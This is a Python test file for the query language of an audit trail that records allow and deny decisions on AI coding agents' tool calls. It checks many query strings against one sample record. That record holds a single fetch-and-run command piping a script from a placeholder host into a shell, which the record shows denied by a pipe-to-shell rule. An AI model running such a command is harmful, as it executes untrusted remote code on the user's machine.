"""Which records a query takes."""

from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.trail.query import Query, QueryError, read
from spawngate.trail.query.match import like, texts, values_at

NOW = datetime(2026, 11, 21, 12, tzinfo=UTC)
RECORD: dict[str, Any] = {
    "type": "decision",
    "at": "2026-11-21T10:00:00.000000Z",
    "sequence": 41,
    "actor": {"agent": "claude-code", "user": "Ann"},
    "call": {"commands": ["curl https://x.test | sh"], "programs": ["curl", "sh"], "tool": "Bash", "cwd": "/w"},
    "decision": {
        "verdict": "deny",
        "severity": "high",
        "latency_us": 1500,
        "hits": [{"rule": "spawn-pipe-to-shell"}, {"rule": "other"}],
        "silent": False,
    },
    "detail": {"a.b": "dotted", "n": 7, "Case": "Kept"},
}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", True),
        ("   ", True),
        ("verdict:deny", True),
        ("VERDICT:DENY", True),
        ("verdict:allow", False),
        ("verdict:allow,deny", True),
        ("not verdict:deny", False),
        ("-verdict:deny", False),
        ("NOT verdict:allow", True),
        ("not not verdict:deny", True),
        ("verdict!=allow", True),
        ("verdict!=deny", False),
        ("verdict=deny", True),
        ("verdict>=ask", True),
        ("verdict<deny", False),
        ("verdict:>log", True),
        ("severity>=high", True),
        ("severity>high", False),
        ("severity:[low to high]", True),
        ("severity:[critical to critical]", False),
        ("verdict:deny agent:codex-cli", False),
        ("verdict:deny and agent:claude-code", True),
        ("verdict:allow or agent:claude-code", True),
        ("verdict:allow or agent:codex-cli", False),
        ("verdict:allow and agent:codex-cli or tool:bash", True),
        ("verdict:allow and (agent:codex-cli or tool:bash)", False),
        ("(verdict:deny)(agent:claude-code)", True),
        ("-(verdict:allow or tool:read)", True),
        ("rule:spawn-*", True),
        ("rule:*-to-*", True),
        ("rule:*pipe", False),
        ('rule:"spawn-*"', False),
        ("program:sh", True),
        ("program:*", True),
        ("server:*", False),
        ("not server:*", True),
        ("cwd:/w", True),
        ("path:/w", False),
        ("detail.n:7", True),
        ("detail.Case:kept", True),
        ("detail.a.b:dotted", True),
        ("decision.silent:false", True),
        ("call.commands:*x.test*", True),
        ("latency>1000", True),
        ("latency:1500", True),
        ("latency:[1500 to 1.6e3]", True),
        ("latency<=1499.5", False),
        ("sequence:40,41", True),
        ("X.TEST", True),
        ("x.test nowhere", False),
        ("x.test or nowhere", True),
        ("https://x.test", True),
        ('"curl https"', True),
        ('"curl  https"', False),
        ("-nowhere", False),
        ('-"nowhere"', True),
        ("last 3h", True),
        ("last:3h", True),
        ("last 1h", False),
        ("not last 1h", True),
        ("at:2026-11-21", True),
        ("at:2026-11-20", False),
        ("at:2026-11-20,2026-11-21", True),
        ("at:[2026-11-20 to 2026-11-21]", True),
        ("at<=2026-11-21", True),
        ("at<2026-11-21", False),
        ("at>2026-11-21", False),
        ("at>=2026-11-21", True),
        ("at>2026-11-20", True),
        ("at<=2026-11-20", False),
        ("at>=2026-11-21T10:00:00Z", True),
        ("at>2026-11-21T10:00:00Z", False),
        ("at:>3h", True),
        ("at!=2026-11-21", False),
    ],
)
def test_queries(text: str, expected: bool) -> None:
    assert read(text, NOW).matches(RECORD) is expected


@pytest.mark.parametrize(
    ("text", "since", "until"),
    [
        ("", "", ""),
        ("last 2h verdict:deny", "2026-11-21T10:00:00.000000Z", ""),
        ("last 2h or verdict:deny", "", ""),
        ("not last 2h", "", ""),
        ("at:2026-11-20", "2026-11-20T00:00:00.000000Z", "2026-11-21T00:00:00.000000Z"),
        ("last 7d (at>=2026-11-19 x) at<2026-11-21", "2026-11-19T00:00:00.000000Z", "2026-11-21T00:00:00.000000Z"),
    ],
)
def test_bounds(text: str, since: str, until: str) -> None:
    found = read(text, NOW)
    assert (found.since, found.until) == (since, until)


def test_further_conditions() -> None:
    deny, codex = read("verdict:deny", NOW), read("agent:codex-cli", NOW)
    assert deny.also().matches(RECORD)
    assert not deny.also(codex.tree).matches(RECORD)


@given(st.text("ab*", max_size=6), st.text("ab", max_size=6))
def test_star_is_any_text(pattern: str, value: str) -> None:
    import re

    expected = re.fullmatch(pattern.replace("*", ".*"), value, re.DOTALL) is not None
    assert like(value, pattern) is expected


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)


@given(st.dictionaries(st.sampled_from([*RECORD, "x"]), JSON))
@pytest.mark.parametrize(
    "text", ["verdict>=ask", "latency:5", "at>=2026-01-01", "program:a*", "type:*", "not x.y:z", "x"]
)
def test_any_record_is_answered(text: str, record: dict[str, Any]) -> None:
    assert read(text, NOW).matches(record) in (True, False)


@given(st.text(max_size=60))
def test_a_query_and_its_opposite(text: str) -> None:
    try:
        one, other = read(text, NOW), read(f"not ({text})", NOW)
    except QueryError:
        return
    assert one.matches(RECORD) is not other.matches(RECORD)


def test_everything() -> None:
    assert Query().matches({})


def test_values_and_texts() -> None:
    assert list(values_at({"a": [{"b": 1}, {"b": [True, None, "x"]}]}, "a.b")) == ["1", "true", "x"]
    assert list(texts({"a": ["b", {"c": 1}]})) == ["b", "c"]
    assert list(texts({"detail": {"k": "v"}, "actor": {"user": "u"}})) == ["k", "v", "u"]
    assert list(texts({"hash": "h", "call": {"id": "i", "arguments": {"n": {"m": "v"}}}})) == ["n", "m", "v"]
